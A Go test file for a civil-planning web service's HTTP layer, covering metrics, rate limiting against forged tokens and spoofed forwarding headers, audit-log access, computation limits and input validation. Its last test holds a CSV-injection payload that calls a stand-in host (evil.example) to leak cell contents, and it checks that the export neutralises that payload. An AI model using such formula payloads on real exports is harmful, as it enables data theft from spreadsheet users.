package web

import (
	"context"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io"
	"net"
	"net/http"
	"net/url"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/civplan/civplan/data/store"
	"github.com/prometheus/client_golang/prometheus"
	dto "github.com/prometheus/client_model/go"
)

func TestMetrics(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true})
	e.get(t, "/api/v1/divisions/42")
	e.get(t, "/api/v1/divisions/43")
	res, err := http.Get(e.ts.URL + "/metrics")
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	body := string(b)
	for _, want := range []string{
		`civplan_http_requests_total{method="GET",route="/api/v1/divisions/:code",status="200"} 1`,
		`civplan_http_requests_total{method="GET",route="/api/v1/divisions/:code",status="404"} 1`,
		`civplan_http_request_duration_seconds_bucket{method="GET",route="/api/v1/divisions/:code"`,
		"civplan_snapshot_age_seconds", "civplan_snapshot_version 1", "civplan_db_size_bytes",
	} {
		if !strings.Contains(body, want) {
			t.Errorf("metrics lack %q", want)
		}
	}
}

func TestRateLimit(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, RatePerSec: 1, Burst: 3})
	var codes []int
	for i := 0; i < 5; i++ {
		code, h, _ := e.get(t, "/healthz")
		codes = append(codes, code)
		if code == 429 && h.Get("Retry-After") == "" {
			t.Error("429 without Retry-After")
		}
	}
	if codes[0] != 200 || codes[2] != 200 || codes[3] != 429 || codes[4] != 429 {
		t.Errorf("codes %v: want 3 × 200 then 429", codes)
	}
	// Another client (a token) has its own bucket.
	tok, _, _ := e.store.CreateToken(context.Background(), "other", store.RoleViewer)
	if code, _, _ := e.get(t, "/healthz", "Authorization", "Bearer "+tok); code != 200 {
		t.Errorf("a different client was limited: %d", code)
	}
}

func TestAuditEndpoint(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true})
	ctx := context.Background()
	adminTok, _, _ := e.store.CreateToken(ctx, "root", store.RoleAdmin)
	plannerTok, _, _ := e.store.CreateToken(ctx, "li", store.RolePlanner)
	for i := 0; i < 3; i++ {
		code, _, m := e.do(t, "POST", "/api/v1/facilities", `{"kind":"welfare_home","name":"测试敬老院`+string(rune('A'+i))+`","division_code":"420526100","lon":110.3,"lat":31.5}`, "Authorization", "Bearer "+plannerTok)
		if code != 201 {
			t.Fatalf("create: %d %v", code, m)
		}
	}
	code, _, m := e.get(t, "/api/v1/audit?action=facility.create&limit=2", "Authorization", "Bearer "+adminTok)
	if code != 200 {
		t.Fatalf("%d %v", code, m)
	}
	entries := m["entries"].([]any)
	if len(entries) != 2 || entries[0].(map[string]any)["actor"] != "li" {
		t.Fatalf("entries %v", entries)
	}
	next := m["links"].([]any)[0].(map[string]any)["href"].(string)
	code, _, m = e.get(t, strings.TrimPrefix(next, e.ts.URL), "Authorization", "Bearer "+adminTok)
	if code != 200 || len(m["entries"].([]any)) != 1 {
		t.Errorf("page 2: %d %v", code, m)
	}
	if code, _, _ := e.get(t, "/api/v1/audit", "Authorization", "Bearer "+plannerTok); code != 403 {
		t.Errorf("planner reads the audit log: %d", code)
	}
	if code, _, _ := e.get(t, "/api/v1/audit?since=yesterday", "Authorization", "Bearer "+adminTok); code != 400 {
		t.Errorf("bad since: %d", code)
	}
}

// With every computation slot taken, a siting request waits Config.HeavyWait and then gets 503
// with Retry-After; once a slot frees, it runs. Oversized work is refused up front.
func TestHeavyWorkLimits(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, MaxHeavy: 1, HeavyWait: 50 * time.Millisecond})
	body := `{"kind":"mutual_aid_elderly","division":"420526","objective":"mclp","p":1,"radius_m":5000,"mode":"radius"}`
	e.srv.work <- struct{}{} // a computation is running
	code, h, m := e.do(t, "POST", "/api/v1/siting", body)
	if code != 503 || h.Get("Retry-After") == "" {
		t.Errorf("busy: %d %v", code, m)
	}
	<-e.srv.work
	if code, _, m := e.do(t, "POST", "/api/v1/siting", body); code != 200 {
		t.Errorf("free: %d %v", code, m)
	}
	if code, _, m := e.do(t, "POST", "/api/v1/siting", `{"kind":"mutual_aid_elderly","objective":"mclp","p":5001}`); code != 400 || m["invalid_params"].([]any)[0].(map[string]any)["name"] != "p" {
		t.Errorf("p too large: %d %v", code, m)
	}
	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
	ops := strings.Repeat(`{"op":"rename","unit":"420526100","name":"某镇"},`, maxScenarioOps+1)
	code, _, m = e.do(t, "POST", "/api/v1/scenarios", `{"name":"太多","ops":[`+strings.TrimSuffix(ops, ",")+`]}`, "Authorization", "Bearer "+tok)
	if code != 400 || m["invalid_params"].([]any)[0].(map[string]any)["name"] != "ops" {
		t.Errorf("too many ops: %d %v", code, m)
	}
}

// X-Forwarded-For and X-Real-IP are believed only from configured proxies: a client rotating
// them shares one bucket, while behind a trusted proxy each named client has its own.
func TestRateLimitIgnoresForwardedForByDefault(t *testing.T) {
	for _, tc := range []struct {
		trusted []string
		want429 bool
	}{{nil, true}, {[]string{"127.0.0.1/32"}, false}} {
		e := newTestEnv(t, Config{OpenReads: true, RatePerSec: 1, Burst: 3, TrustedProxies: tc.trusted})
		limited := false
		for i := 0; i < 6; i++ {
			code, _, _ := e.get(t, "/healthz", "X-Forwarded-For", fmt.Sprintf("203.0.113.%d", i+1), "X-Real-IP", fmt.Sprintf("198.51.100.%d", i+1))
			limited = limited || code == 429
		}
		if limited != tc.want429 {
			t.Errorf("trusted proxies %v: rotating X-Forwarded-For limited = %v, want %v", tc.trusted, limited, tc.want429)
		}
	}
}

// Buckets are keyed by the hash of the whole token: requests with a forged secret sharing an
// admin token's first characters use their own bucket, and the admin is not locked out.
func TestRateLimitForgedPrefixDoesNotLockOutAdmin(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, RatePerSec: 0.001, Burst: 3})
	admin, _, err := e.store.CreateToken(context.Background(), "root", store.RoleAdmin)
	if err != nil {
		t.Fatal(err)
	}
	forged := admin[:12] + strings.Repeat("x", len(admin)-12)
	codes := []int{}
	for i := 0; i < 5; i++ {
		code, _, _ := e.get(t, "/api/v1/audit", "Authorization", "Bearer "+forged)
		codes = append(codes, code)
	}
	if codes[4] != 429 {
		t.Fatalf("forged token codes %v: its own bucket should run out", codes)
	}
	if code, _, m := e.get(t, "/api/v1/audit", "Authorization", "Bearer "+admin); code != 200 {
		t.Errorf("admin after a forged-prefix flood: %d %v", code, m)
	}
}

// 10,000 distinct fake tokens neither reset a client's empty bucket (the table evicts the least
// recently used entries instead of starting afresh) nor grow the table beyond its bound.
func TestRateLimitManyTokensKeepBuckets(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, RatePerSec: 0.001, Burst: 2})
	victim := "Bearer client-that-ran-out"
	for i := 0; i < 3; i++ {
		e.get(t, "/healthz", "Authorization", victim)
	}
	if code, _, _ := e.get(t, "/healthz", "Authorization", victim); code != 429 {
		t.Fatalf("the client's bucket did not run out: %d", code)
	}
	var wg sync.WaitGroup
	var failed atomic.Int64
	for w := 0; w < 4; w++ {
		wg.Add(1)
		go func(w int) {
			defer wg.Done()
			for i := w; i < 10000; i += 4 {
				req, _ := http.NewRequest("GET", e.ts.URL+"/healthz", nil)
				req.Header.Set("Authorization", fmt.Sprintf("Bearer fake-%05d", i))
				res, err := http.DefaultClient.Do(req)
				if err != nil || res.StatusCode != 200 {
					failed.Add(1)
				}
				if err == nil {
					io.Copy(io.Discard, res.Body)
					res.Body.Close()
				}
				if i == 5000 { // the victim keeps knocking while the flood goes on
					req, _ := http.NewRequest("GET", e.ts.URL+"/healthz", nil)
					req.Header.Set("Authorization", victim)
					if res, err := http.DefaultClient.Do(req); err != nil || res.StatusCode != 429 {
						t.Errorf("mid-flood the client's bucket was refilled: %v %v", res, err)
					} else {
						res.Body.Close()
					}
				}
			}
		}(w)
	}
	wg.Wait()
	if n := failed.Load(); n != 0 {
		t.Errorf("%d fake-token requests failed (each fake token has a fresh bucket)", n)
	}
	if code, _, _ := e.get(t, "/healthz", "Authorization", victim); code != 429 {
		t.Errorf("after 10,000 fake tokens the client's bucket was reset: %d", code)
	}
	l := e.srv.limiter
	l.mu.Lock()
	n := len(l.by)
	l.mu.Unlock()
	if n != 10001 {
		t.Errorf("limiter table holds %d clients, want 10001", n)
	}
}

// The table is bounded: when full it forgets the least recently used client, not everyone.
func TestLimiterEvictsLeastRecentlyUsed(t *testing.T) {
	l := newLimiter(0.001, 1)
	l.max = 3
	for _, k := range []string{"a", "b", "c"} {
		if ok, _ := l.allow(k); !ok {
			t.Fatalf("%s: first request refused", k)
		}
	}
	l.allow("a") // a is now the most recently used (and empty)
	l.allow("d") // evicts b, the least recently used
	if len(l.by) != 3 {
		t.Fatalf("table holds %d, want 3", len(l.by))
	}
	if _, ok := l.by["b"]; ok {
		t.Error("b (least recently used) was kept")
	}
	if ok, _ := l.allow("a"); ok {
		t.Error("a's empty bucket was reset")
	}
	if ok, _ := l.allow("b"); !ok {
		t.Error("b, forgotten, did not start afresh")
	}
}

// When the client goes away during a siting or scenario computation, the computation sees its
// context cancelled (counted in civplan_heavy_abandoned_total by the gate only when the domain
// code returned the context's error) and the heavy slot is released.
func TestHeavyCancelledWhenClientGoes(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, MaxHeavy: 1})
	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
	abandoned := e.srv.metrics.abandoned.WithLabelValues("computing", "client_gone")
	for k, tc := range []struct{ path, body string }{
		{"/api/v1/siting", `{"kind":"mutual_aid_elderly","division":"420526","objective":"mclp","p":1,"radius_m":5000}`},
		{"/api/v1/scenarios", `{"name":"两镇合并","ops":[{"op":"merge","units":["420526100","420526101"],"into":"420526100","name":"古夫镇"}]}`},
	} {
		reached := make(chan struct{}, 1)
		hook := func(ctx context.Context) {
			reached <- struct{}{}
			select { // hold the computation until the server notices the client is gone
			case <-ctx.Done():
			case <-time.After(60 * time.Second):
			}
		}
		e.srv.testHookHeavy.Store(&hook)
		conn, err := net.Dial("tcp", e.ts.Listener.Addr().String())
		if err != nil {
			t.Fatal(err)
		}
		fmt.Fprintf(conn, "POST %s HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer %s\r\nContent-Type: application/json\r\nContent-Length: %d\r\n\r\n%s",
			tc.path, tok, len(tc.body), tc.body)
		select {
		case <-reached:
		case <-time.After(60 * time.Second):
			t.Fatalf("%s: the request never reached the computation", tc.path)
		}
		if len(e.srv.work) != 1 {
			t.Fatalf("%s: %d heavy slots taken during the computation, want 1", tc.path, len(e.srv.work))
		}
		conn.Close()
		deadline := time.Now().Add(60 * time.Second)
		for len(e.srv.work) != 0 || counterValue(t, abandoned) != float64(k+1) {
			if time.Now().After(deadline) {
				t.Fatalf("%s: after the client left: %d slots taken, %v computations abandoned", tc.path, len(e.srv.work), counterValue(t, abandoned))
			}
			time.Sleep(10 * time.Millisecond)
		}
		// The slot serves the next request.
		e.srv.testHookHeavy.Store(nil)
		if code, _, m := e.do(t, "POST", tc.path, tc.body, "Authorization", "Bearer "+tok); code != 200 && code != 201 {
			t.Errorf("%s next: %d %v", tc.path, code, m)
		}
	}
	if n, _, _ := e.get(t, "/api/v1/scenarios", "Authorization", "Bearer "+tok); n != 200 {
		t.Errorf("list scenarios: %d", n)
	}
}

// Past Config.WorkDeadline a computation stops and the answer is 503 problem+json with
// Retry-After (not a connection cut by the write timeout).
func TestHeavyDeadlineAnswers503(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, MaxHeavy: 1, WorkDeadline: 300 * time.Millisecond})
	hook := func(ctx context.Context) { <-ctx.Done() } // the computation starts late
	e.srv.testHookHeavy.Store(&hook)
	body := `{"kind":"mutual_aid_elderly","division":"420526","objective":"mclp","p":1,"radius_m":5000}`
	req, _ := http.NewRequest("POST", e.ts.URL+"/api/v1/siting", strings.NewReader(body))
	req.Header.Set("Content-Type", "application/json")
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 503 || res.Header.Get("Retry-After") == "" || res.Header.Get("Content-Type") != "application/problem+json" {
		t.Errorf("past the deadline: %d Retry-After %q %s: %s", res.StatusCode, res.Header.Get("Retry-After"), res.Header.Get("Content-Type"), b)
	}
	if !strings.Contains(string(b), "deadline") {
		t.Errorf("the problem does not say the deadline passed: %s", b)
	}
	if n := counterValue(t, e.srv.metrics.abandoned.WithLabelValues("computing", "deadline")); n != 1 {
		t.Errorf("%v computations abandoned at the deadline, want 1", n)
	}
	if len(e.srv.work) != 0 {
		t.Errorf("%d slots still taken", len(e.srv.work))
	}
}

// A siting request with 100,000 exclusion codes (1.3 MB, within the limits) gets an answer —
// 200, or 503 if it could not finish — never a dropped connection.
func TestSitingHundredThousandExclusions(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, WorkDeadline: 100 * time.Second})
	var b strings.Builder
	b.WriteString(`{"kind":"mutual_aid_elderly","objective":"mclp","p":1,"radius_m":5000,"exclude":["420526101201"`)
	for k := 1; k < maxSitingCandidates; k++ { // codes of townships the county does not have
		fmt.Fprintf(&b, `,"420526%03d%03d"`, 300+k/500, 1+k%500)
	}
	b.WriteString(`]}`)
	code, _, m := e.do(t, "POST", "/api/v1/siting", b.String())
	if code != 200 && code != 503 {
		t.Fatalf("100,000 exclusions: %d %v", code, m)
	}
	if code == 200 {
		// Of the three village points, 420526101201 is excluded.
		if sit := m["siting"].(map[string]any); sit["candidates"] != 2.0 || sit["candidates_excluded"] != 1.0 {
			t.Errorf("candidates %v, excluded %v; want 2 and 1", sit["candidates"], sit["candidates_excluded"])
		}
	}
}

// counterValue reads a Prometheus counter's current value.
func counterValue(t *testing.T, c prometheus.Counter) float64 {
	t.Helper()
	var m dto.Metric
	if err := c.Write(&m); err != nil {
		t.Fatal(err)
	}
	return m.GetCounter().GetValue()
}

// OGC items with a CQL2 filter go through the heavy gate and stop at the work deadline (503);
// plain item pages do not take a slot.
func TestFilteredItemsAreHeavy(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true, MaxHeavy: 1, WorkDeadline: 300 * time.Millisecond})
	var calls atomic.Int64
	hook := func(ctx context.Context) { calls.Add(1); <-ctx.Done() }
	e.srv.testHookHeavy.Store(&hook)
	if code, _, m := e.get(t, "/ogc/collections/villages/items?limit=1"); code != 200 || calls.Load() != 0 {
		t.Errorf("plain items: %d (gate entered %d times) %v", code, calls.Load(), m)
	}
	code, h, m := e.get(t, "/ogc/collections/villages/items?filter="+url.QueryEscape("name LIKE '%村%'"))
	if code != 503 || h.Get("Retry-After") == "" || calls.Load() != 1 {
		t.Errorf("filtered items past the deadline: %d (gate entered %d times) %v", code, calls.Load(), m)
	}
	if n := counterValue(t, e.srv.metrics.abandoned.WithLabelValues("computing", "deadline")); n != 1 {
		t.Errorf("%v filtered item scans abandoned at the deadline, want 1", n)
	}
}

func TestLoneSurrogateAt(t *testing.T) {
	for _, tc := range []struct {
		body string
		want int
	}{
		{`{"name":"古夫镇"}`, -1},
		{`{"name":"\ud83d\ude00"}`, -1},    // a pair: 😀
		{`{"name":"\uD83D\uDE00"}`, -1},    // upper-case hex
		{`{"name":"\\udc00"}`, -1},         // an escaped backslash, then the letters udc00
		{`{"name":"\u00e9\"\n"}`, -1},      // ordinary escapes
		{`{"name":"\udc00"}`, 9},           // a low half alone
		{`{"name":"\ud83d"}`, 9},           // a high half alone
		{`{"name":"\ud83dx"}`, 9},          // a high half before a letter
		{`{"name":"\ud83d\u0041"}`, 9},     // a high half before a non-surrogate escape
		{`{"name":"\ude00\ud83d"}`, 9},     // reversed
		{`{"a":"\ud83d\ude00\udc00"}`, 18}, // a pair, then a lone half
		{`{"name":"\ud8`, -1},              // truncated: left to the JSON decoder
	} {
		if got := loneSurrogateAt([]byte(tc.body)); got != tc.want {
			t.Errorf("loneSurrogateAt(%s) = %d, want %d", tc.body, got, tc.want)
		}
	}
}

// A name with a real surrogate pair (an emoji) is stored as that character; the lone half the
// issue reported is refused and nothing is stored.
func TestSurrogatePairsInNames(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true})
	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
	code, _, m := e.do(t, "POST", "/api/v1/scenarios", `{"name":"合并\ud83d\ude00","ops":[]}`, "Authorization", "Bearer "+tok)
	if code != 201 || m["scenario"].(map[string]any)["name"] != "合并😀" {
		t.Fatalf("pair: %d %v", code, m)
	}
	code, _, m = e.do(t, "POST", "/api/v1/scenarios", `{"name":"合并\udc00","ops":[]}`, "Authorization", "Bearer "+tok)
	if code != 400 || !strings.Contains(m["detail"].(string), "surrogate") {
		t.Errorf("lone half: %d %v", code, m)
	}
	_, _, m = e.get(t, "/api/v1/scenarios", "Authorization", "Bearer "+tok)
	if n := len(m["scenarios"].([]any)); n != 1 {
		t.Errorf("%d scenarios stored, want 1", n)
	}
}

// Statutory inputs out of range are refused naming the field (issue 14: seat_non_ag_pop: -5).
func TestStatutoryInputsRangeChecked(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true})
	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
	body := func(v string) string {
		return `{"name":"撤乡设镇","ops":[],"inputs":{"units":{"420526101":{"seat_non_ag_pop":` + v + `}}}}`
	}
	code, _, m := e.do(t, "POST", "/api/v1/scenarios", body("-5"), "Authorization", "Bearer "+tok)
	if code != 400 {
		t.Fatalf("-5: %d %v", code, m)
	}
	if name := m["invalid_params"].([]any)[0].(map[string]any)["name"]; name != `inputs.units["420526101"].seat_non_ag_pop` {
		t.Errorf("-5 names %v", name)
	}
	if code, _, m := e.do(t, "POST", "/api/v1/scenarios", body("2500"), "Authorization", "Bearer "+tok); code != 201 {
		t.Errorf("2500: %d %v", code, m)
	}
}

// A scenario that renames a town to a spreadsheet formula exports it as text in codes.csv
// (formats.CSVText), and its numbers stay numbers.
func TestCodesCSVNeutralisesFormulas(t *testing.T) {
	e := newTestEnv(t, Config{OpenReads: true})
	tok, _, _ := e.store.CreateToken(context.Background(), "p", store.RolePlanner)
	evil := `=HYPERLINK("http://evil.example/?"&A1,"点击")`
	body, _ := json.Marshal(map[string]any{"name": "-改名", "ops": []any{map[string]any{"op": "rename", "unit": "420526100", "name": evil}}})
	code, _, m := e.do(t, "POST", "/api/v1/scenarios", string(body), "Authorization", "Bearer "+tok)
	if code != 201 {
		t.Fatalf("create: %d %v", code, m)
	}
	id := int64(m["scenario"].(map[string]any)["id"].(float64))
	req, _ := http.NewRequest("GET", fmt.Sprintf("%s/api/v1/scenarios/%d/codes.csv", e.ts.URL, id), nil)
	req.Header.Set("Authorization", "Bearer "+tok)
	res, err := http.DefaultClient.Do(req)
	if err != nil {
		t.Fatal(err)
	}
	b, _ := io.ReadAll(res.Body)
	res.Body.Close()
	if res.StatusCode != 200 {
		t.Fatalf("codes.csv: %d %s", res.StatusCode, b)
	}
	r := csv.NewReader(strings.NewReader(strings.TrimPrefix(string(b), "\ufeff")))
	r.FieldsPerRecord = -1
	recs, err := r.ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	found := false
	for _, rec := range recs {
		for _, cell := range rec {
			if strings.Contains(cell, "HYPERLINK") {
				found = true
				if cell != "'"+evil {
					t.Errorf("cell %q: want the formula neutralised as %q", cell, "'"+evil)
				}
			}
			if cell != "" && strings.ContainsRune("=+-@\t\r", rune(cell[0])) {
				if _, err := strconv.ParseFloat(cell, 64); err != nil {
					t.Errorf("cell %q starts a formula", cell)
				}
			}
		}
	}
	if !found {
		t.Errorf("the renamed unit is not in codes.csv:\n%s", b)
	}
}
